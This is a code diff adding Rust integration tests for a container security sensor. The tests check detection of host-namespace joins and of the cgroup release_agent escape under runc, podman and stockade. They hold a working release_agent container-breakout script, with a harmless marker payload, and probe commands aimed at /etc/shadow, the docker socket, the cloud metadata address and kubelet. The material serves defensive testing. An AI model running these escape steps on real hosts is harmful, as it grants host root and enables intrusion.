@@ -694,6 +694,235 @@ fn podman_host_pid_container_reaching_host_processes() {
     foreign_proc(Ctr::Podman(&c), w);
 }
 
+/// SKD-RUN-041, the effect: a task of a container sharing the host pid namespace joins the mount
+/// and network namespaces of a host process (nsenter; the target is the test's own `sleep`, not
+/// pid 1, which may be any process), then executes: one event, whatever the calls were.
+/// Joining a namespace that is not the host's (its own, a fresh one) gives none, and neither
+/// does anything in the table of SKD-RUN-042 (credentials becoming host root without setuid):
+/// no call can do that, only a kernel exploit, which this test cannot run; the full trigger
+/// tables above (setuid-root exec, setuid(0), unshare -U, clone(CLONE_NEWUSER)) are its
+/// negatives, counted exactly per rule.
+fn namespace_switch(ctr: Ctr<'_>, mut w: Watcher) {
+    let mut target = std::process::Command::new("sleep")
+        .arg("60")
+        .spawn()
+        .expect("spawn sleep");
+    let script = format!(
+        "nsenter -t $$ -m -n true; unshare -m true; nsenter -t {} -m -n true && echo joined",
+        target.id()
+    );
+    let out = ctr.exec(None, &["sh", "-c", &script], None);
+    // the same switch by a process that then neither executes, forks nor exits for three
+    // seconds: the sensor's once-a-second look (a task iterator) sees it first
+    let pid = target.id().to_string();
+    let out2 = ctr.exec(None, &["skd-trigger", "setns_sleep", &pid], None);
+    let _ = target.kill();
+    let _ = target.wait();
+    assert!(
+        out.contains("joined"),
+        "nsenter into the host's failed: {out}"
+    );
+    assert!(
+        out2.contains("joined"),
+        "setns into the host's failed: {out2}"
+    );
+    let events = w.stop();
+    let mine = of_container(&events, ctr.id());
+    let sw: Vec<&&Value> = mine.iter().filter(|e| e["rule"] == "SKD-RUN-041").collect();
+    assert_eq!(sw.len(), 2, "{mine:#?}\n{}", w.log());
+    let e = sw[0];
+    assert_eq!(e["behaviour"], "namespace-to-host", "{e}");
+    assert_eq!(
+        e["args"]["namespaces"],
+        serde_json::json!(["mnt", "net"]),
+        "{e}"
+    );
+    assert_eq!(e["args"]["seen_at"], "exec", "{e}");
+    let e = sw[1];
+    assert_eq!(e["args"]["namespaces"], serde_json::json!(["mnt"]), "{e}");
+    assert_eq!(e["args"]["seen_at"], "timer", "{e}");
+    assert_eq!(e["process"]["comm"], "skd-trigger", "{e}");
+    assert_eq!(e["container"]["runtime"], ctr.runtime(), "{e}");
+    assert!(
+        !mine.iter().any(|e| e["rule"] == "SKD-RUN-042"),
+        "no credential change here: {mine:#?}"
+    );
+}
+
+#[test]
+fn runc_host_pid_container_joining_host_namespaces() {
+    if let Some(why) = skip_reason(false) {
+        eprintln!("SKIP: {why}");
+        return;
+    }
+    let w = Watcher::start("runc-nshost", &[]);
+    let c = Runc::start("nshost", Shape::PrivilegedHostPid, None);
+    namespace_switch(Ctr::Runc(&c), w);
+}
+
+/// The same in the lean tier (no syscall hook): the effect is checked at exec, fork and exit,
+/// which every tier has.
+#[test]
+fn runc_host_pid_container_joining_host_namespaces_lean_tier() {
+    if let Some(why) = skip_reason(false) {
+        eprintln!("SKIP: {why}");
+        return;
+    }
+    let w = Watcher::start("runc-nshost-lean", &["--syscall-hooks", "none"]);
+    if w.log().contains("lean tier unavailable") {
+        eprintln!("SKIP: lean tier unavailable on this kernel:\n{}", w.log());
+        return;
+    }
+    let c = Runc::start("nshostl", Shape::PrivilegedHostPid, None);
+    namespace_switch(Ctr::Runc(&c), w);
+}
+
+#[test]
+fn stockade_host_pid_container_joining_host_namespaces() {
+    let _one = stockade_one_at_a_time();
+    if let Some(why) = skip_reason(false).or_else(stockade_skip_reason) {
+        eprintln!("SKIP: {why}");
+        return;
+    }
+    let w = Watcher::start("stockade-nshost", &[]);
+    let c = Runc::start_with(
+        Runtime::Stockade,
+        "snshost",
+        Shape::PrivilegedHostPid,
+        None,
+        &[("stockade.io/landlock", "off")],
+    );
+    namespace_switch(Ctr::Runc(&c), w);
+}
+
+#[test]
+fn podman_host_pid_container_joining_host_namespaces() {
+    if let Some(why) = skip_reason(true) {
+        eprintln!("SKIP: {why}");
+        return;
+    }
+    podman_env();
+    let w = Watcher::start("podman-nshost", &[]);
+    let c = Podman::start("nshost", &["--privileged", "--pid", "host"]);
+    namespace_switch(Ctr::Podman(&c), w);
+}
+
+/// SKD-RUN-043: the release_agent escape for real, in a privileged container. The container
+/// mounts a private cgroup v1 hierarchy, points its release_agent at a script in its own root
+/// (`root_expr`: a shell expression for the host's path to that root) and empties a child cgroup;
+/// the kernel runs the script on the host, as root, from a kernel thread. The script only writes
+/// a marker file into this test's scratch directory. One SKD-RUN-043 event, attributed to the
+/// container whose root holds the script.
+fn release_agent_runs(ctr: Ctr<'_>, root_expr: &str, mut w: Watcher) {
+    let hier = uniq("ra").replace('-', "");
+    let marker = scratch().join(format!("umh-ran-{hier}"));
+    let _ = std::fs::remove_file(&marker);
+    let script = format!(
+        "r={root_expr}; d=/tmp/ra; mkdir -p $d && mount -t cgroup -o none,name={hier} cgroup $d \
+         || exit 1; printf '#!/bin/sh\\necho ran > {m}\\n' > /skw-agent.sh; chmod 755 /skw-agent.sh; \
+         echo \"$r/skw-agent.sh\" > $d/release_agent; mkdir $d/x; echo 1 > $d/x/notify_on_release; \
+         sh -c 'echo $$ > /tmp/ra/x/cgroup.procs'; sleep 1; rmdir $d/x; umount $d; \
+         rm -f /skw-agent.sh; echo agent=$r/skw-agent.sh",
+        m = marker.display()
+    );
+    let out = ctr.exec(None, &["sh", "-c", &script], None);
+    let mut ran = false;
+    for _ in 0..50 {
+        if marker.exists() {
+            ran = true;
+            break;
+        }
+        std::thread::sleep(std::time::Duration::from_millis(100));
+    }
+    let _ = std::fs::remove_file(&marker);
+    assert!(ran, "the release agent did not run on the host: {out}");
+    let events = w.stop();
+    let mine = of_container(&events, ctr.id());
+    let umh: Vec<&&Value> = mine.iter().filter(|e| e["rule"] == "SKD-RUN-043").collect();
+    assert_eq!(umh.len(), 1, "{out}\n{mine:#?}\n{}", w.log());
+    let e = umh[0];
+    assert_eq!(e["behaviour"], "usermode-helper-exec", "{e}");
+    assert_eq!(e["container"]["runtime"], ctr.runtime(), "{e}");
+    assert!(
+        e["args"]["path"]
+            .as_str()
+            .is_some_and(|p| p.ends_with("/skw-agent.sh")),
+        "{e}"
+    );
+    assert!(
+        e["args"]["argv"]
+            .as_array()
+            .is_some_and(|a| a.iter().any(|x| x == "/x")),
+        "the released cgroup is the helper's argument: {e}"
+    );
+}
+
+#[test]
+fn runc_release_agent_runs_on_the_host() {
+    if let Some(why) = skip_reason(false) {
+        eprintln!("SKIP: {why}");
+        return;
+    }
+    let w = Watcher::start("runc-umh", &[]);
+    let c = Runc::start("umh", Shape::Privileged, None);
+    let root = format!("/proc/{}/root", c.init_pid());
+    release_agent_runs(Ctr::Runc(&c), &root, w);
+}
+
+/// The lean tier sees it as well (the exec tracepoint).
+#[test]
+fn runc_release_agent_runs_on_the_host_lean_tier() {
+    if let Some(why) = skip_reason(false) {
+        eprintln!("SKIP: {why}");
+        return;
+    }
+    let w = Watcher::start("runc-umh-lean", &["--syscall-hooks", "none"]);
+    if w.log().contains("lean tier unavailable") {
+        eprintln!("SKIP: lean tier unavailable on this kernel:\n{}", w.log());
+        return;
+    }
+    let c = Runc::start("umhl", Shape::Privileged, None);
+    let root = format!("/proc/{}/root", c.init_pid());
+    release_agent_runs(Ctr::Runc(&c), &root, w);
+}
+
+#[test]
+fn stockade_release_agent_runs_on_the_host() {
+    let _one = stockade_one_at_a_time();
+    if let Some(why) = skip_reason(false).or_else(stockade_skip_reason) {
+        eprintln!("SKIP: {why}");
+        return;
+    }
+    let w = Watcher::start("stockade-umh", &[]);
+    let c = Runc::start_with(
+        Runtime::Stockade,
+        "sumh",
+        Shape::Privileged,
+        None,
+        &[("stockade.io/landlock", "off")],
+    );
+    let root = format!("/proc/{}/root", c.init_pid());
+    release_agent_runs(Ctr::Runc(&c), &root, w);
+}
+
+/// In podman the container's root is an overlay: the script's host path is the overlay's upper
+/// directory, read from the container's own mount table, as the published escape does.
+#[test]
+fn podman_release_agent_runs_on_the_host() {
+    if let Some(why) = skip_reason(true) {
+        eprintln!("SKIP: {why}");
+        return;
+    }
+    podman_env();
+    let w = Watcher::start("podman-umh", &[]);
+    let c = Podman::start("umh", &["--privileged"]);
+    release_agent_runs(
+        Ctr::Podman(&c),
+        "$(sed -n 's/.*upperdir=\\([^,]*\\).*/\\1/p' /proc/self/mountinfo | head -n1)",
+        w,
+    );
+}
+
 /// Starting a CAP_SYS_ADMIN container gives one SKD-ESC-010, under runc, podman and stockade; a
 /// default container starts quietly. Stockade's init makes the rootfs mounts before the runtime
 /// has moved it into the container's cgroups (crates/runtime container.rs step 5): with
@@ -816,7 +1045,12 @@ fn host_triggers(hooks: &[&str]) {
          ln -s /etc/shadow s; rm -f s; cp {h} suid && chmod u+s suid; \
          {h} connect {d}/docker.sock; {h} connect4 169.254.169.254 80; \
          {h} connect4 127.0.0.1 10250; head -c1 /proc/kallsyms >/dev/null; \
-         head -c 8 {dev} >/dev/null; head -c1 /proc/1/environ >/dev/null 2>&1; true",
+         head -c 8 {dev} >/dev/null; head -c1 /proc/1/environ >/dev/null 2>&1; \
+         nsenter -t $PPID -m -n true; \
+         mount -t cgroup -o none,name={hier}u cgroup cg && {{ printf '#!/bin/sh\\n:\\n' > agent; \
+         chmod 755 agent; echo {d}/agent > cg/release_agent; mkdir cg/x; \
+         echo 1 > cg/x/notify_on_release; sh -c 'echo $$ > cg/x/cgroup.procs'; sleep 1; \
+         rmdir cg/x; umount cg; }}; true",
         dev = lp.dev
     );
     // once in the host namespaces, once in a private mount namespace
@@ -869,6 +1103,21 @@ fn host_triggers(hooks: &[&str]) {
         host.iter().any(|e| e["rule"] == "SKD-RUN-005"),
         "expected host-attributed mount events with --include-host ({pids:?}):\n{events:#?}\n{}",
         w.log()
+    );
+    // its nsenter back into the host's mount namespace (of its parent, this test) is the effect SKD-RUN-041 checks, seen
+    // (the sensor does not know what a container is) and attributed to the host, never to a
+    // container; the half already in the host namespaces changes nothing and gives none
+    let sw: Vec<&&Value> = host.iter().filter(|e| e["rule"] == "SKD-RUN-041").collect();
+    assert_eq!(sw.len(), 1, "{sw:#?}\n{}", w.log());
+    assert_eq!(
+        sw[0]["args"]["namespaces"],
+        serde_json::json!(["mnt"]),
+        "{}",
+        sw[0]
+    );
+    assert!(
+        !host.iter().any(|e| e["rule"] == "SKD-RUN-042"),
+        "{host:#?}"
     );
 }
 
